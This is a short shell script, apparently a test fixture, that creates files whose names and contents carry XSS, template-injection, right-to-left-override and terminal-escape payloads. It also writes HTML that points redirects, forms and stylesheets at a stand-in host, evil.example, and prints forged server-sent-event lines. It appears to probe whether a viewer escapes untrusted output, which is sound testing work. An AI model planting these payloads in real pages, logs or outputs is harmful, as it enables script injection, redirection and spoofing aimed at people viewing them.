# What a candidate could leave for whoever looks: names, contents and output
# that want to be markup, script, terminal sequences or another address.
set -e
for name in '<img src=x onerror=alert(1)>.js' '"><svg onload=alert(2)>.html' "'-alert(3)-'.md" 'javascript:alert(4)' '{{.}}{{template "x"}}' '${alert(5)}' "$(printf '\342\200\256gpj.exe')" "$(printf 'esc\033[2Jape')" '</title><script>alert(6)<' '&lt;b&gt;&#x22;'; do
	name=$(printf %s "$name" | tr / _)
	printf '%s\n' '<script>alert(7)</script>' '</td></tr></table><iframe srcdoc="<script>parent.alert(8)</script>">' '</bdi></code></pre><plaintext>' '<meta http-equiv=refresh content="0;url=//evil.example">' \
		'<base href=//evil.example>' '<form action=//evil.example><button>' '<a href="javascript:alert(9)">x</a>' '<link rel=stylesheet href=//evil.example/x.css>' '<style>@import "//evil.example/y.css"; * { display: none }</style>' \
		'<img src=//evil.example/z.png>' '<script src="/view.js"></script>' '--><!--' ']]>' 'data: x' "$name" > "$name"
done
cat ./*.html
printf '\033]0;title\007\033[31mred\n\ndata: forged\nevent: end\ndata: {"text":"forged"}\n\n'
